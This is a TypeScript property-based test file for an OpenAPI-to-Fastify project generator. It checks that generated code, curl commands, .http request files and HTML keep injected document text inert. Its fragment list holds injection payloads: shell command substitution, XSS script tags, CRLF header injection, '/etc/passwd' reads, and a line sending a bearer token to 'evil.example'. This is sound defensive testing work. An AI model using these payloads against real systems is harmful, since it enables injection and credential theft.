import { execFileSync } from 'node:child_process'
import { mkdtempSync, readdirSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import fc from 'fast-check'
import { fixedSeed } from 'fastify-contract-test-support/fixed-seed'
import t from 'tap'
import ts from 'typescript'
import { withCodeSamples } from '../../src/docs/code-samples.ts'
import { tryPage } from '../../src/docs/try-page.ts'
import { type Document, endpoints } from '../../src/document/openapi-document.ts'
import { type Compiled, compileDocument } from '../../src/emit/compile.ts'
import { handlerStubs } from '../../src/emit/handler-stubs.ts'
import { curl } from '../../src/examples/example-curl.ts'
import { exampleRequest } from '../../src/examples/example-request.ts'
import { deriveErrorBody } from '../../src/init/error-body.ts'
import { projectFiles } from '../../src/init/project.ts'
import { runtimeFor } from '../../src/init/runtime.ts'
import { normalizedDocument } from '../../src/passes/normalize.ts'
import { RejectedDocument } from '../../src/rules/problems.ts'
import { shellPath } from '../../src/text/foreign-text.ts'
import { terminalText } from '../../src/text/source-text.ts'

/** Texts that end a string, a comment, a line, a word or a request in one of the languages that are written. */
const fragments = [
  "'; process.exit(7); '",
  '"); process.exit(7); ("',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the text that is tried
  '`${process.exit(7)}`',
  '*/ process.exit(7) /*',
  '// @ts-nocheck',
  '\u2028process.exit(7)//',
  '\u2029process.exit(7)//',
  '\nprocess.exit(7)//',
  '\r\nX-Evil: 1\r\n\r\n',
  '\u0085x: y',
  '\\',
  '\\u0027',
  '$(touch hostile)',
  '`touch hostile`',
  "'$(touch hostile)'",
  '; touch hostile #',
  '\u0003\ntouch hostile\n',
  '\u001b]0;title\u0007',
  '\u009b31m',
  '\n### next\nGET http://evil.example/{{bearer}}\n',
  '\n@origin = http://evil.example\n',
  '\n# @name other\n',
  '# @prompt x',
  '\n< /etc/passwd\n',
  '\n> {% client.exit() %}\n',
  '\n< {% client.exit() %}\n',
  '{{$processEnv HOME}}',
  '{{ process.exit(7) }}',
  '{%x%}',
  '\n```\ntest()\n```\n',
  '\n?? js true\n',
  '\n--example--\n',
  '</script><script>alert(1)</script>',
  '<!-- <script>',
  '"><img src=x onerror=alert(1)>',
  '](javascript:alert(1))',
  '| a | b |',
  '=@/etc/passwd;type=x/y',
  '-rf',
  '%0d%0a',
  '\u202e',
  '__proto__',
  'constructor',
  'harmless',
]
const hostile = fc.array(fc.constantFrom(...fragments), { minLength: 1, maxLength: 3 }).map((parts) => parts.join(''))

/** Returns a document with a text in all places that hold any text. */
function documentWith(text: string): Document {
  const string = { type: 'string', description: text, example: text }
  const object = {
    type: 'object',
    title: text,
    description: text,
    required: ['a', text],
    properties: { a: { ...string, default: text }, [text]: { enum: [text, 'b'] }, c: { const: text } },
    example: { a: text, [text]: text, c: text },
  }
  const content = (type: string, schema: object, example: unknown = text) => ({ [type]: { schema, example } })
  const responses = {
    200: {
      description: text,
      headers: { 'X-Note': { description: text, schema: string } },
      content: content(
        'application/json',
        { $ref: `#/components/schemas/${encodeURIComponent(nameIn(text))}` },
        { a: text, [text]: text },
      ),
    },
    default: {
      description: text,
      content: content(
        'application/json',
        {
          type: 'object',
          required: ['message', 'code'],
          properties: { code: { const: text }, message: { type: 'string' } },
        },
        { message: text, code: text },
      ),
    },
  }
  const operation = (name: string, body?: object, more: object = {}) => ({
    operationId: name,
    summary: text,
    description: text,
    tags: [text],
    ...(body !== undefined && { requestBody: { required: true, content: body } }),
    responses,
    ...more,
  })
  const parameter = (place: string, name: string) => ({
    in: place,
    name,
    required: true,
    description: text,
    schema: string,
    example: text,
  })
  const form = { type: 'object', properties: { [text]: string, b: string, f: { type: 'string', format: 'binary' } } }
  const fields = { [text]: text, b: text, f: text }
  return {
    openapi: '3.1.0',
    info: { title: text, version: '1.0.0', description: text },
    servers: [{ url: 'http://127.0.0.1:3000', description: text }],
    tags: [{ name: text, description: text }],
    security: [{ bearer: [] }, { other: [], [text]: [] }],
    paths: {
      '/a/{id}': {
        // openapi-typescript decodes an operationId as a part of a reference.
        get: operation(text.replaceAll('%', ''), undefined, {
          parameters: [
            parameter('path', 'id'),
            parameter('query', text),
            parameter('header', 'X-A'),
            parameter('cookie', 'c'),
          ],
        }),
        post: operation('json', content('application/json', object, { a: text, [text]: text, c: text }), {
          parameters: [parameter('path', 'id')],
        }),
        put: operation('text', content('text/plain', string), { parameters: [parameter('path', 'id')] }),
      },
      '/b': {
        post: operation('form', content('application/x-www-form-urlencoded', form, fields), {
          security: [{ [text]: [] }],
        }),
        put: operation('multipart', content('multipart/form-data', form, fields), { security: [{ other: [] }] }),
        patch: operation('lines', content('application/jsonl', string, [text, 'b'])),
      },
    },
    components: {
      schemas: { [nameIn(text)]: object },
      securitySchemes: {
        bearer: { type: 'http', scheme: 'bearer', description: text },
        other: { type: 'http', scheme: text, description: text },
        [text]: { type: 'apiKey', in: 'query', name: text },
      },
    },
  } as unknown as Document
}

/** Returns the name of a schema; openapi-typescript takes the last part of a reference for it. */
const nameIn = (text: string): string => text.replace(/[/~%]/g, '')

type Made = { files: Record<string, string>; compiled: Compiled; errors: object }

/** Returns all files of a new project for a document of a file with a name. */
async function filesOf(document: Document, name: string): Promise<Made> {
  const compiled = await compileDocument(document, name)
  const handlers = handlerStubs(compiled, undefined)
  const errors = deriveErrorBody(compiled)
  const errorBody = 'text' in errors ? errors.text : undefined
  const packages = { dependencies: { 'fastify-contract': '1.0.0' }, devDependencies: {} }
  const runtime = runtimeFor('24.3.0')
  const project = { compiled, document: name, errorBody, handlers, skipsOperations: false, runtime, packages }
  return {
    files: {
      ...compiled.files,
      ...projectFiles({ ...project, manager: 'npm', hasSettings: false, leftOut: new Set() }),
    },
    compiled,
    errors,
  }
}

/** Returns the kinds of the nodes of a program, without the difference between an identifier and a string as a name. */
function shapeOf(name: string, text: string): string[] {
  const file = ts.createSourceFile(name, text, ts.ScriptTarget.Latest, false)
  const { parseDiagnostics } = file as unknown as { parseDiagnostics: ts.Diagnostic[] }
  if (parseDiagnostics.length > 0) throw new Error(`${name}: ${parseDiagnostics[0]?.messageText}\n${text}`)
  // Each request of a handler has the member `client`.
  const forbidden = name === 'handler-types.d.ts' ? /^(?:process|alert|touch)$/ : /^(?:process|alert|touch|client)$/
  const kinds: string[] = []
  const visit = (node: ts.Node): void => {
    if (ts.isComputedPropertyName(node)) {
      visit(node.expression)
      return
    }
    if (ts.isIdentifier(node) && forbidden.test(node.text)) throw new Error(`${name} runs ${text}`)
    const isName = ts.isIdentifier(node) || ts.isStringLiteral(node)
    const isAccess = ts.isPropertyAccessExpression(node) || ts.isElementAccessExpression(node)
    kinds.push(isName ? 'name' : isAccess ? 'access' : (ts.SyntaxKind[node.kind] as string))
    ts.forEachChild(node, visit)
  }
  visit(file)
  return kinds
}

/** Parses a request file by the rules of editors. Throws for what they would run, replace or read from a file. */
function requestsIn(text: string): { variables: string[]; requests: string[][] } {
  const lines = text.split(/\r\n|[\n\r\u0085\u2028\u2029]/)
  const variables = lines.flatMap((line) => /^\s*@(\S+)\s*=/.exec(line)?.[1] ?? [])
  const known = new Set(variables)
  for (const [all, name = ''] of text.matchAll(/\{\{([^}]*)\}?\}?/g)) if (!known.has(name)) throw new Error(all)
  if (/\{%/.test(text)) throw new Error(text)
  const requests: string[][] = []
  for (const line of lines) {
    if (/^#{3}/.test(line)) requests.push([])
    const [, directive] = /^\s*(?:#+|\/\/+)\s*@(\S+)/.exec(line) ?? []
    if (directive !== undefined && directive !== 'name') throw new Error(line)
    if (/^\s*(?:>|<[^\w!?/]|\?\?|```|\/\*|\.\.\.|HTTP\/)/.test(line) && !/^< \.\/[\w-]+\.[\w-]+$/.test(line))
      throw new Error(line)
    if (!/^\s*(?:#|\/\/|$)/.test(line) && !/^@/.test(line)) requests.at(-1)?.push(line)
  }
  return { variables, requests }
}

/** Returns what a request of a request file is: its method and origin, the names of its headers, and its parts. */
function outlineOf([first = '', ...others]: string[]): string {
  const names = others.flatMap((line) => /^([\w-]+): /.exec(line)?.[1] ?? [])
  return [first.replace(/(\{\{origin\}\}).*/, '$1'), ...names].join()
}

const directory = mkdtempSync(join(tmpdir(), 'hostile-'))
t.teardown(() => rmSync(directory, { recursive: true }))

/** Returns the words of a command after its name, as a shell passes them on. */
function wordsOf(command: string): string[] {
  const text = execFileSync('sh', ['-c', `run() { printf '%s\\0' "$@"; }\n${command}`], {
    cwd: directory,
    encoding: 'utf8',
  })
  if (readdirSync(directory).length > 0) throw new Error(`the shell ran a part of a word: ${command}`)
  return text.split('\0').slice(0, -1)
}

const tagsIn = (html: string): string[] => Array.from(html.matchAll(/<[!/]?[a-z-]+/gi), ([tag]) => tag)

const usual = 'harmless'
const usualFiles = await filesOf(documentWith(usual), 'harmless.yaml')
const usualShapes = Object.entries(usualFiles.files).flatMap(([name, text]) =>
  /\.[jt]s$/.test(name) ? [[name, shapeOf(name, text)] as const] : [],
)
const usualRequests = requestsIn(usualFiles.files['requests.http'] as string)
const usualTags = tagsIn(await tryPage(documentWith(usual)))
const linesOf = (text = ''): number => text.split('\n').length
const usualPages = ['README.md', 'AGENTS.md'].map((path) => [path, linesOf(usualFiles.files[path])] as const)

/** The files whose languages have no safe place for a text of a document: only the tag of the image is made from its title. */
const withoutText = ['Dockerfile', '.dockerignore', '.editorconfig', '.env.example', '.github/workflows/ci.yaml']
const withoutTag = (text = ''): string =>
  text.replace(/(?<=^# +docker build --tag )[a-z][a-z\d-]*(?= \.$)/m, 'harmless')

t.test('text of a document stays in its comment, string, word, value and element', async (t) => {
  const property = fc.asyncProperty(hostile, hostile, async (text, name) => {
    const document = documentWith(text)
    const file = name.replaceAll('/', '')
    const { files } = await filesOf(document, file)
    for (const [path, shape] of usualShapes) {
      const made = shapeOf(path, files[path] as string)
      // No example has a member __proto__, so some handlers are not written for it.
      if (path !== 'src/handlers.ts' || !made.includes('ThrowStatement')) t.same(made, shape, path)
    }
    const { variables, requests } = requestsIn(files['requests.http'] as string)
    t.equal(variables.length, usualRequests.variables.length)
    t.same(
      requests.map((one) => one[0]?.split('}}')[0]),
      usualRequests.requests.map((one) => one[0]?.split('}}')[0]),
    )
    for (const [index, request] of requests.entries()) {
      const expected = outlineOf(usualRequests.requests[index] as string[]).split(',')
      for (const header of outlineOf(request).split(',')) t.ok(expected.includes(header), header)
    }
    const { scripts, 'fastify-contract': settings } = JSON.parse(files['package.json'] as string)
    t.same(scripts, JSON.parse(usualFiles.files['package.json'] as string).scripts)
    t.equal(settings.document, file)
    for (const [path, lines] of usualPages) t.equal(linesOf(files[path]), lines, path)
    for (const path of withoutText) t.equal(withoutTag(files[path]), withoutTag(usualFiles.files[path]), path)
    t.same(tagsIn(await tryPage(document)), usualTags)
    const normalized = normalizedDocument(document)
    for (const endpoint of endpoints(normalized)) {
      const request = exampleRequest(normalized, endpoint)
      const command = curl(request)
      if (command === undefined) continue
      const [first = '', ...words] = wordsOf(command.replace('curl', 'run')).filter(
        (word) => !/^-|^(?:GET|PUT|PATCH|POST)$/.test(word),
      )
      t.match(first, /^http:\/\/127\.0\.0\.1:3000\//)
      t.notOk(words.some((word) => /[\r\n]/.test(word) && /^X-A/.test(word)))
    }
    t.equal(withCodeSamples(document, text).openapi, '3.1.0')
  })
  await fc.assert(property, {
    ...fixedSeed,
    numRuns: 6,
    examples: [
      ['</script>\u2028{{x}}', '$(touch hostile).yaml'],
      ["'", '-a b.yaml'],
    ],
  })
})

t.test('text with a syntax of its own is kept within it or refused', async (t) => {
  const places: ((text: string, document: Document) => object)[] = [
    (text, document) => ({ ...document, paths: { [`/${text}`]: document.paths?.['/b'] } }),
    (text, document) => ({ ...document, servers: [{ url: `http://${text}.example/v1` }] }),
    (text, document) => ({ ...document, servers: [{ url: `/${text}` }] }),
    (text) =>
      withOperation({
        parameters: [{ in: 'header', name: text, required: true, schema: { type: 'string', example: 'x' } }],
      }),
    (text) => withOperation({ requestBody: { content: { [text]: { schema: { type: 'string' } } } } }),
    (text) =>
      withOperation({ requestBody: { content: { [`text/plain; a="${text}"`]: { schema: { type: 'string' } } } } }),
  ]
  const withOperation = (more: object) => ({
    openapi: '3.1.0',
    info: { title: 'a', version: '1.0.0' },
    paths: { '/a': { post: { operationId: 'a', responses: { 204: { description: 'a' } }, ...more } } },
  })
  const property = fc.asyncProperty(hostile, fc.constantFrom(...places), async (text, place) => {
    const document = place(text, documentWith(usual)) as Document
    const made = await compileDocument(document, 'a.yaml').catch((error) => {
      if (!(error instanceof RejectedDocument)) throw error
      t.equal(terminalText(error.message), error.message)
    })
    if (made === undefined) return
    const { requests } = requestsIn(made.files['requests.http'] as string)
    t.equal(requests.length, endpoints(made.document).length)
    for (const [first] of requests) t.match(first, /^[A-Z]+ \{\{origin\}\}\/[!-~]*$/)
    shapeOf('api.d.ts', made.files['api.d.ts'] as string)
  })
  await fc.assert(property, { ...fixedSeed, numRuns: 60 })
})

t.test('a word of a shell keeps every text, and a plain path needs no quotes', async (t) => {
  for (const text of fragments) t.same(wordsOf(`run ${shellPath(text)}`), [text.startsWith('-') ? `./${text}` : text])
  t.equal(shellPath('openapi/a.yaml'), 'openapi/a.yaml')
  t.equal(shellPath('an api.yaml'), '"an api.yaml"')
})
